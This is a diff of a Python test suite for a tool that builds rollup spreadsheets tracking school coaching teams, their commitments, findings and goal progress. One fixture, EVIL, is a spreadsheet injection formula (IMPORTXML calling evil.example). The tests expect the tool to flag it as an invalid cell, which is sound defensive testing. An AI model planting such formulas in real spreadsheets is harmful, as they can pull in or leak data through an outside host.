@@ -47,6 +47,10 @@ from tst_sheets.rollup.write_plan import layout_of, render
 from tst_sheets.templates.cells import Link, cell, hyperlink_formula
 
 AS_OF = date(2026, 10, 5)
+T03_WHY = (
+    "30-minute coaching twice a month: 0 coaching sessions in August 2026, 1 in September "
+    "2026 (2 shorter than 30 min, not counted) (and 6 more commitments behind)"
+)
 RUN = RunFacts(generated_at=datetime(2026, 10, 5, 9, 0))
 BOOK3_E9 = "https://docs.google.com/spreadsheets/d/BOOK3/edit#gid=103&range=E9"
 EVIL = '=IMPORTXML("http://evil.example","//a")'
@@ -325,6 +329,9 @@ def test_summary_sorted_by_status_then_coach(built: RollupContent) -> None:
             "TL",
             "Coach",
             "Status",
+            "Why",
+            "Goal progress",
+            "Goal pace",
             "Meetings this month",
             "Meetings last month",
             "Coaching sessions this month",
@@ -345,6 +352,9 @@ def test_summary_sorted_by_status_then_coach(built: RollupContent) -> None:
             "Sam Roe",
             "Ben Cole",
             "Behind",
+            T03_WHY,
+            None,
+            "No target yet",
             1,
             0,
             0,
@@ -356,7 +366,7 @@ def test_summary_sorted_by_status_then_coach(built: RollupContent) -> None:
             None,
             "✗",
             "2026-10-02",
-            12,
+            8,
             "Open",
         ],
         [
@@ -365,6 +375,9 @@ def test_summary_sorted_by_status_then_coach(built: RollupContent) -> None:
             "Raj Rao",
             "Ana Diaz",
             "Unreadable",
+            "The workbook cannot be read: workbook not found",
+            None,
+            None,
             None,
             None,
             None,
@@ -385,6 +398,9 @@ def test_summary_sorted_by_status_then_coach(built: RollupContent) -> None:
             "Tia Lee",
             "Ana Diaz",
             "On track",
+            "Every commitment kept as of Oct 05, 2026",
+            None,
+            "Not measured yet",
             1,
             2,
             1,
@@ -396,7 +412,7 @@ def test_summary_sorted_by_status_then_coach(built: RollupContent) -> None:
             1.0,
             "✓",
             "2026-10-02",
-            2,
+            0,
             "Open",
         ],
     ]
@@ -404,6 +420,10 @@ def test_summary_sorted_by_status_then_coach(built: RollupContent) -> None:
     assert built.tab("summary").background(2, 4) == "#d9ead3"  # On track
     link = built.tab("summary").rows[0]["workbook"]
     assert link == Link(url="https://docs.google.com/spreadsheets/d/BOOK3/edit", text="Open")
+    why = built.tab("summary").rows[0]["why"]
+    assert why == Link(
+        url=f"https://docs.google.com/spreadsheets/d/BOOK3/edit#gid={104}&range=A2", text=T03_WHY
+    )
 
 
 def test_findings_one_row_each_most_severe_first(built: RollupContent) -> None:
@@ -437,9 +457,10 @@ def test_findings_one_row_each_most_severe_first(built: RollupContent) -> None:
             "Overdue",
             "30-minute coaching twice a month",
             "Coaching",
-            "A20",
-            "1 coaching sessions in September 2026",
-            "at least 2 coaching sessions in September 2026",
+            "A2",
+            "0 coaching sessions in August 2026, 1 in September 2026 (2 shorter than 30 min, "
+            "not counted)",
+            "at least 1 coaching sessions in August 2026, 2 in September 2026",
         ],
         [
             "T03",
@@ -464,9 +485,9 @@ def test_findings_one_row_each_most_severe_first(built: RollupContent) -> None:
             "Overdue",
             "Team meets twice a month",
             "Meetings",
-            "A20",
+            "A4",
             "0 meetings in September 2026",
-            "at least 2 meetings in September 2026",
+            "at least 1 meetings in September 2026",
         ],
         [
             "T03",
@@ -474,7 +495,7 @@ def test_findings_one_row_each_most_severe_first(built: RollupContent) -> None:
             "Every Cohort Roundtable attended",
             "Roster: Attendance",
             "Open",
-            "Roundtable 1 on Sep 15, 2026: absent",
+            "absent from Roundtable 1 (Sep 15, 2026)",
             "attended",
         ],
         [
@@ -496,60 +517,6 @@ def test_findings_one_row_each_most_severe_first(built: RollupContent) -> None:
             "at least 1 by Oct 04, 2026",
         ],
         [
-            "T01",
-            "Due soon",
-            "30-minute coaching twice a month",
-            "Coaching",
-            "A20",
-            "1 coaching sessions in October 2026",
-            "at least 2 coaching sessions in October 2026",
-        ],
-        [
-            "T01",
-            "Due soon",
-            "Team meets twice a month",
-            "Meetings",
-            "A20",
-            "1 meetings in October 2026",
-            "at least 2 meetings in October 2026",
-        ],
-        [
-            "T03",
-            "Due soon",
-            "30-minute coaching twice a month",
-            "Coaching",
-            "A20",
-            "0 coaching sessions in October 2026",
-            "at least 2 coaching sessions in October 2026",
-        ],
-        [
-            "T03",
-            "Due soon",
-            "Team meets twice a month",
-            "Meetings",
-            "A20",
-            "1 meetings in October 2026",
-            "at least 2 meetings in October 2026",
-        ],
-        [
-            "T03",
-            "Warning",
-            "30-minute coaching twice a month",
-            "Coaching",
-            "B2",
-            "20 min on Aug 26, 2026",
-            "at least 30 min (a shorter session does not count)",
-        ],
-        [
-            "T03",
-            "Warning",
-            "30-minute coaching twice a month",
-            "Coaching",
-            "B3",
-            "20 min on Sep 02, 2026",
-            "at least 30 min (a shorter session does not count)",
-        ],
-        [
             "T03",
             "Warning",
             "Cells hold values the service can read",
@@ -558,10 +525,28 @@ def test_findings_one_row_each_most_severe_first(built: RollupContent) -> None:
             EVIL,
             "a date",
         ],
+        [
+            "T03",
+            "Info",
+            "30-minute coaching twice a month",
+            "Coaching",
+            "B2",
+            "20 min on Aug 26, 2026",
+            "at least 30 min (a shorter session does not count)",
+        ],
+        [
+            "T03",
+            "Info",
+            "30-minute coaching twice a month",
+            "Coaching",
+            "B3",
+            "20 min on Sep 02, 2026",
+            "at least 30 min (a shorter session does not count)",
+        ],
     ]
     assert {r[2] for r in rows[1:]} == {"Ana Diaz", "Ben Cole"}
     assert all(r[9] == "2026-10-05" and r[10] == 0 for r in rows[1:])
-    evil = built.tab("findings").rows[-1]
+    evil = built.tab("findings").rows[-3]
     assert evil["cell"] == Link(url=BOOK3_E9, text="E9")
 
 
@@ -574,7 +559,7 @@ def test_findings_filter_view_per_coach(built: RollupContent) -> None:
         "type": "TEXT_EQ",
         "values": [{"userEnteredValue": "Ben Cole"}],
     }
-    assert views[0]["range"]["endRowIndex"] == 16  # header + 15 findings
+    assert views[0]["range"]["endRowIndex"] == 12  # header + 11 findings
 
 
 def test_first_seen_is_kept_and_closed_findings_forgotten(
@@ -583,11 +568,11 @@ def test_first_seen_is_kept_and_closed_findings_forgotten(
     key = next(k for k in built.first_seen if "E9" in k)
     earlier = {key: date(2026, 9, 20), "T09|gone|Meetings||x": date(2026, 9, 1)}
     later = content(commitments, tpl, first_seen=earlier)
-    row = later.tab("findings").values()[-1]
+    row = later.tab("findings").values()[-3]
     assert row[7] == EVIL and row[9] == "2026-09-20" and row[10] == 15
     assert later.first_seen[key] == date(2026, 9, 20)
     assert "T09|gone|Meetings||x" not in later.first_seen
-    assert len(later.first_seen) == 15
+    assert len(later.first_seen) == 11
 
 
 def test_finding_key_ignores_where_the_next_row_is() -> None:
@@ -622,8 +607,8 @@ def test_by_coach_counts_and_attention_first(built: RollupContent) -> None:
             1,
             0,
             1,
-            3,
-            "T02 Birch Middle — Unreadable: workbook not found",
+            1,
+            "T02 Birch Middle — Unreadable: The workbook cannot be read: workbook not found",
         ],
         [
             "Ben Cole",
@@ -633,8 +618,8 @@ def test_by_coach_counts_and_attention_first(built: RollupContent) -> None:
             0,
             0,
             0,
-            12,
-            "T03 Cedar High — Behind: 1 coaching sessions in September 2026",
+            8,
+            f"T03 Cedar High — Behind: {T03_WHY}",
         ],
     ]
 
@@ -662,8 +647,8 @@ def test_trends_grid_months_and_colours(built: RollupContent) -> None:
     ]
     later = [None] * 8
     assert rows[1:] == [
-        ["All teams", "", 2, "Team meetings (average per team)", None, 1.0, 1.0, *later, None],
-        ["All teams", "", 2, "Coaching sessions (average per team)", None, 1.5, 0.5, *later, None],
+        ["All teams", "", 2, "Team meetings (average per team)", 2.0, 1.0, 1.0, *later, None],
+        ["All teams", "", 2, "Coaching sessions (average per team)", 1.0, 1.5, 0.5, *later, None],
         [
             "All teams",
             "",
@@ -675,30 +660,24 @@ def test_trends_grid_months_and_colours(built: RollupContent) -> None:
             *later,
             None,
         ],
-        # the teams started on Aug 20: August has too few days to count ("–")
+        # T03 never reached its size: its meetings count from the deadline, Sep 16 ("–" before)
         ["T03", "Ben Cole", 2, "Team meetings", "–", 0, 1, *later, "Behind"],
-        ["T03", "Ben Cole", 2, "Coaching sessions", "–", 1, 0, *later, "Behind"],
+        ["T03", "Ben Cole", 2, "Coaching sessions", 0, 1, 0, *later, "Behind"],
         ["T03", "Ben Cole", "5 / year", "Principal check-ins", 0, 0, 0, *later, "On track"],
         ["T02", "Ana Diaz", 2, "Team meetings", None, None, None, *later, "Unknown"],
         ["T02", "Ana Diaz", 2, "Coaching sessions", None, None, None, *later, "Unknown"],
         ["T02", "Ana Diaz", "5 / year", "Principal check-ins", None, None, None, *later, "Unknown"],
-        ["T01", "Ana Diaz", 2, "Team meetings", "–", 2, 1, *later, "Due soon"],
-        ["T01", "Ana Diaz", 2, "Coaching sessions", "–", 2, 1, *later, "Due soon"],
+        ["T01", "Ana Diaz", 2, "Team meetings", 2, 2, 1, *later, "On track"],
+        ["T01", "Ana Diaz", 2, "Coaching sessions", 2, 2, 1, *later, "On track"],
         ["T01", "Ana Diaz", "5 / year", "Principal check-ins", 0, 1, 0, *later, "On track"],
     ]
-    met, open_, missed = grid.rules
-    columns = [[r["startColumnIndex"] for r in rule["ranges"]] for rule in grid.rules]
-    assert columns == [[4, 5, 6], [6], [4, 5]]  # met: any month so far; open: October
-    assert met["booleanRule"]["condition"]["values"][0]["userEnteredValue"] == (
-        "=AND(ISNUMBER(E2),ISNUMBER($C2),E2>=$C2)"
-    )
-    assert open_["booleanRule"]["condition"]["values"][0]["userEnteredValue"] == (
-        "=AND(ISNUMBER(G2),ISNUMBER($C2),G2<$C2)"
-    )
-    assert missed["ranges"][0]["endRowIndex"] == 13  # header + 12 rows
-    t03 = 4  # T03's meetings row in ``rows`` (after the 3 cohort rows)
+    assert grid.rules == []  # colours are per cell: each month against what it asked
+    t03, t01 = 3, 9  # the meetings rows in ``rows`` (after the 3 cohort rows)
+    # September asked T03 for 1 (from Sep 16) and got 0; October is still running
     assert [grid.background(t03, c) for c in (4, 5, 6, 7)] == [None, "#f4cccc", "#fff2cc", None]
-    assert grid.background(9, 5) == "#d9ead3"  # T01 met September
+    # August asked T01 for 1 (it started on the 20th): its 2 meet it
+    assert [grid.background(t01, c) for c in (4, 5, 6)] == ["#d9ead3", "#d9ead3", "#fff2cc"]
+    assert grid.background(4, 4) == "#f4cccc"  # T03's August coaching: 20-minute, not counted
     chart = grid.charts[0]["spec"]["basicChart"]
     assert [s["series"]["sourceRange"]["sources"][0]["startRowIndex"] for s in chart["series"]] == [
         1,
@@ -892,19 +871,23 @@ PROVISIONED = [
 ]
 
 
-def test_start_here_block_below_the_facts(commitments: CommitmentSet, tpl: RollupTemplate) -> None:
+def test_start_here_shows_the_status_and_why_at_the_top_and_the_block_below(
+    commitments: CommitmentSet, tpl: RollupTemplate
+) -> None:
     layout = locate(PROVISIONED, 55, "Start Here")
     assert (layout.block_row, layout.labels) == (9, {"Last checked": 3, "Status": 4})
     again = locate([*PROVISIONED, [], [MARKER, "old"], ["Overall", "Behind"]], 55, "Start Here")
     assert again.block_row == 9
     _, views = cohort(commitments)
     status = views[2].status
-    rows = block(status, tpl.rule_words)
+    rows = block(status, commitments)
     assert rows[1] == ["Overall", "Behind"]
-    assert rows[2] == ["Impact Team of at least 4 other faculty", "Behind: team members 2 of 4"]
+    assert rows[2] == ["Why", Link(url=status.why.link or "", text=T03_WHY)]
+    assert rows[3] == ["Impact Team of at least 4 other faculty", "Behind: team members 2 of 4"]
+    assert not any("observation" in str(row[0]).lower() for row in rows)  # staff-owned
     assert rows[-1][0] == Link(url=BOOK3_E9, text="Meetings!E9")
     assert rows[-1][1] == f"Warning: {EVIL} (expected: a date)"
-    reqs = requests(layout, status, AS_OF, tpl.rule_words, {"Behind": "#f4cccc"})
+    reqs = requests(layout, status, AS_OF, commitments, {"Behind": "#f4cccc"})
     assert all(next(iter(r.values())).get("range", {}).get("sheetId", 55) == 55 for r in reqs)
     body = reqs[1]["updateCells"]
     assert (body["range"]["startRowIndex"], body["range"]["endColumnIndex"]) == (8, 2)
@@ -916,4 +899,56 @@ def test_start_here_block_below_the_facts(commitments: CommitmentSet, tpl: Rollu
     ]
     facts = [r["updateCells"]["start"]["rowIndex"] for r in reqs[2:]]
     assert facts == [2, 3]
-    assert block_digest(status, tpl.rule_words) == block_digest(status, tpl.rule_words)
+    top = reqs[3]["updateCells"]["rows"][0]["values"][0]
+    assert top["userEnteredValue"] == {
+        "formulaValue": hyperlink_formula(
+            Link(url=status.why.link or "", text=f"Behind: {T03_WHY}")
+        )
+    }
+    assert top["userEnteredFormat"]["backgroundColor"] == {"red": 0.9569, "green": 0.8, "blue": 0.8}
+    assert block_digest(status, commitments) == block_digest(status, commitments)
+
+
+# --- the Impact and Staff tabs -----------------------------------------------------------------
+
+
+def test_impact_tab_sections_goal_rows_and_chart(built: RollupContent) -> None:
+    grid = built.tab("impact")
+    rows = grid.values()
+    assert rows[0][0] == "The program as of 2026-10-05"
+    assert rows[1][:3] == ["Teams with a SMART target", 0.5, "1 of 2 teams"]  # T02 unreadable
+    goals = next(i for i, r in enumerate(rows) if r[0] == "Team")
+    assert rows[goals] == [
+        "Team",
+        "School",
+        "Measure",
+        "Baseline",
+        "Mid-year",
+        "End of year",
+        "Target",
+        "Progress",
+        "Pace",
+        "Note",
+    ]
+    t01 = rows[goals + 2]
+    assert t01[:4] == ["T01", "Alder Elementary", "", 0.4] and t01[6] == 0.6
+    assert t01[8:] == ["Not measured yet", "measured at mid-year (data due Jan 29, 2027)"]
+    assert grid.rows[goals + 2]["c0"] == Link(
+        url="https://docs.google.com/spreadsheets/d/BOOK1/edit#gid=101", text="T01"
+    )
+    completion = next(i for i, r in enumerate(rows) if r[0] == "Commitment")
+    assert rows[completion + 1][:5] == ["Team meets twice a month", 6, 6, 0.8333, "1 of 2 teams"]
+    assert grid.merged_rows == [0, goals - 1, completion - 1]
+    series = grid.charts[0]["spec"]["basicChart"]["series"]
+    columns = [s["series"]["sourceRange"]["sources"][0]["startColumnIndex"] for s in series]
+    assert columns == [3, 4, 5, 6]  # baseline, mid-year, end of year, target
+    assert grid.background(goals + 2, 8) == "#efefef"
+
+
+def test_progress_bar_reads_at_a_glance(tpl: RollupTemplate) -> None:
+    from tst_sheets.rollup.impact import progress_bar
+
+    assert progress_bar(0.5, tpl.impact) == "█████░░░░░ 50%"
+    assert progress_bar(1.2, tpl.impact) == "██████████ 120%"
+    assert progress_bar(-0.1, tpl.impact) == "░░░░░░░░░░ -10%"
+    assert progress_bar(None, tpl.impact) == ""
